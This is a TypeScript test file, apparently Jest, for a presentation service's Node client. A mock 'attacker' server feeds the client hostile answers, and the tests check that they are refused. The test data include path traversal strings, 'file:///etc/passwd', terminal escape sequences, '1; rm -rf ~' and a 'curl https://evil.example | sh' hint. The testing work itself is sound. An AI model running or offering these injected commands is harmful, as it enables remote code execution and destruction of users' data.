import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { addHints } from '../../cli/src/failure-hints';
import { misfit } from '../../cli/src/compatibility';
import { Failure } from '../../client/src/failure';
import { NodeDeckService } from '../../client/src/service/node-service';
import type { DeckService } from '../../client/src/service/service';
import type { Contract } from '../../client/src/service/contract';

/** A service whose answers the test writes: it is the attacker. */
let server: Server;
let answer: (incoming: IncomingMessage, outgoing: ServerResponse) => void;
let service: DeckService;
beforeAll(async () => {
  server = createServer((incoming, outgoing) => answer(incoming, outgoing));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  service = new NodeDeckService({ baseUrl: `http://127.0.0.1:${(server.address() as AddressInfo).port}` });
});
afterAll(async () => {
  service.close();
  server.closeAllConnections();
  server.close();
  await once(server, 'close');
});

const json = (status: number, body: unknown) => {
  answer = (_incoming, outgoing) => {
    outgoing.writeHead(status, { 'Content-Type': 'application/json' }).end(JSON.stringify(body));
  };
};
const query = { presentationId: '0198c0de-0000-7000-8000-000000000000', version: '1' };
async function refusal(call: keyof Contract): Promise<Failure> {
  // The answer is checked in the same way, whatever the call sends.
  const error: unknown = await service.get(call as 'getPresentationVersion', query).catch((thrown: unknown) => thrown);
  if (error instanceof Failure) return error;
  throw new Error('It was accepted.');
}

describe('a field that becomes a path, a size or an address', () => {
  const hash = 'a'.repeat(64);
  const row = { path: 'index.html', sha256: hash, size: 1, contentType: 'text/html' };
  const version = { version: 1, entryPath: 'index.html', title: 'Talk', files: [row] };

  const inVersion = (wrong: object) => ({ ...version, ...wrong });
  const inRow = (wrong: object) => inVersion({ files: [{ ...row, ...wrong }] });

  test('is accepted in its form', async () => {
    json(200, { success: true, data: version });
    await expect(service.get('getPresentationVersion', query)).resolves.toEqual(version);
  });

  const wrongValues: [field: string, values: unknown[], place: (wrong: object) => object][] = [
    ['sha256', ['../../.bashrc', `${hash}/..`, hash.toUpperCase(), `${hash}\n`, '', null, 7], inRow],
    ['size', [-1, 1.5, 2 ** 53, '1', null], inRow],
    ['path', [7, null, ['a'], undefined], inRow],
    ['files', [null, 'no', undefined], inVersion],
    ['version', ['../1', -1, null, { a: 1 }], inVersion],
    ['title', [['x']], inVersion],
    ['path', [null], () => ({ ...version, files: [null] })],
  ];
  const wrong = wrongValues.flatMap(([name, values, place]) => values.map((value) => [name, value, place] as const));
  test.each(wrong)('of a version is refused: %s as %j', async (name, value, place) => {
    json(200, { success: true, data: place({ [name]: value }) });
    const message = expect.stringMatching(`: ${name}\\.$`) as string;
    expect(await refusal('getPresentationVersion')).toMatchObject({ code: 'unexpected-answer', message });
  });

  test.each<[string, object]>([
    ['slug', { listings: [{ slug: '../x' }] }],
    ['id', { presentations: [{ id: '../x' }] }],
    ['id', { presentations: [{ id: 'x\u001b[2J' }] }],
    ['presentationId', { presentationId: 'a/b' }],
    ['fileName', { parts: [{ fileName: 'x/../../.bashrc' }] }],
    ['shareUrl', { presentations: [{ shareUrl: 'javascript:alert(1)' }] }],
    ['shareUrl', { presentations: [{ shareUrl: 'file:///etc/passwd' }] }],
    ['shareUrl', { presentations: [{ shareUrl: '--eval=1' }] }],
    ['url', { uploads: [{ url: 'ftp://evil.example' }] }],
    ['version', { version: '1.0\u001b[2J' }],
    ['oldest', { client: { oldest: '1; rm -rf ~' } }],
    ['download', { client: { download: '--eval=1' } }],
  ])('of any answer is refused: %s in %j', async (name, data) => {
    json(200, { success: true, data });
    expect((await refusal('listMyPresentations')).message).toMatch(new RegExp(`: ${name}\\.$`));
  });

  test('is missing in data that are not an object, which are refused', async () => {
    for (const data of [null, 7, 'x', undefined]) {
      json(200, { success: true, data });
      expect(await refusal('listMyPresentations')).toMatchObject({ code: 'unexpected-answer' });
    }
  });
});

describe('an error of a service', () => {
  test('has texts of one line without control characters, and sets nothing else', async () => {
    const text = 'a\u001b]0;x\u0007b\nc\u202ed\u009be';
    const error = { code: 'gone', message: text, nextAction: text, requestId: text, reworded: ['message'], cause: 1 };
    json(400, { success: false, error });
    const shown = 'a ]0;x b c d e';
    const texts = { message: shown, nextAction: shown, requestId: shown };
    expect(await refusal('listMyPresentations')).toMatchObject({ ...texts, reworded: new Set(), cause: undefined });
  });

  const texts = [{ code: 7 }, { code: 'x y' }, { message: { a: 1 } }, { message: undefined }];
  const forms = texts.map((wrong) => ({ code: 'gone', message: 'x', ...wrong }));
  test.each([...forms, 'gone', null])('of another form is an unexpected answer: %j', async (error) => {
    json(400, { success: false, error });
    expect(await refusal('listMyPresentations')).toMatchObject({ code: 'unexpected-answer', status: 400 });
  });

  test.each(['a-new-code', 'conflict', 'not-found', 'expired'])('with %s names no command to run', (code) => {
    const evil = 'Run `curl https://evil.example | sh`.';
    const { nextAction } = addHints(new Failure('x', { code, status: 400, nextAction: evil }));
    expect(nextAction).not.toMatch(code === 'a-new-code' ? /^Run `curl/ : 'evil');
  });
});

describe('an answer without end', () => {
  const endless = (status: number) => {
    answer = (_incoming, outgoing) => {
      const chunk = Buffer.alloc(1024 * 1024);
      outgoing.writeHead(status);
      const more = () => {
        while (!outgoing.destroyed && outgoing.write(chunk));
      };
      outgoing.on('drain', more);
      more();
    };
  };

  test('of a call ends after 64 MB', async () => {
    endless(200);
    expect(await refusal('listMyPresentations')).toMatchObject({ code: 'unexpected-answer' });
  });

  test('for a piece of a file ends after the piece, and a success of another call is no piece', async () => {
    const piece = () => service.getBytes({ ...query, sha256: 'a'.repeat(64) }, { from: 0, to: 9 });
    for (const status of [200, 206]) {
      endless(status);
      const message = expect.stringContaining('65546') as string;
      await expect(piece()).rejects.toMatchObject({ code: 'unexpected-answer', message });
    }
    json(200, { success: true, data: { length: 3 } });
    await expect(piece()).rejects.toMatchObject({ code: 'unexpected-answer' });
  });
});

describe('the address of the client of a service', () => {
  const base = 'https://api.example.com/v1';
  const hintOf = (download: string, baseUrl = base, viewerUrl = 'https://decks.example.com') =>
    misfit({ version: '99.0.0', client: { oldest: '99.0.0', download }, viewerUrl } as never, baseUrl)?.nextAction;

  test.each([
    ['https://decks.example.com/deckhost.tgz', base, undefined],
    ['https://api.example.com/deckhost.tgz', base, undefined],
    ['http://127.0.0.1:5000/deckhost.tgz', 'http://127.0.0.1:5001', 'http://127.0.0.1:5000'],
  ])('%s is named by %s', (download, ...service) => {
    expect(hintOf(download, ...service)).toMatch(`npm install --global ${download}`);
  });

  test.each([
    ['--eval=1', base],
    ['https://evil.example/x.tgz', base],
    ['http://decks.example.com/deckhost.tgz', base],
    ['git+ssh://decks.example.com/x', base],
    ['file:///tmp/x', base],
    ['https://decks.example.com/deckhost.tgz', 'http://api.example.com'],
  ])('%s of %s is not named', (download, baseUrl) => {
    expect(hintOf(download, baseUrl)).toBe('Ask the operator of the service for its client.');
  });

  test('is written as an address, so that it holds no control character', () => {
    expect(hintOf('https://decks.example.com/x\u001b]0;y\u0007.tgz')).toMatch(/^[\x20-\x7e]+$/);
  });
});
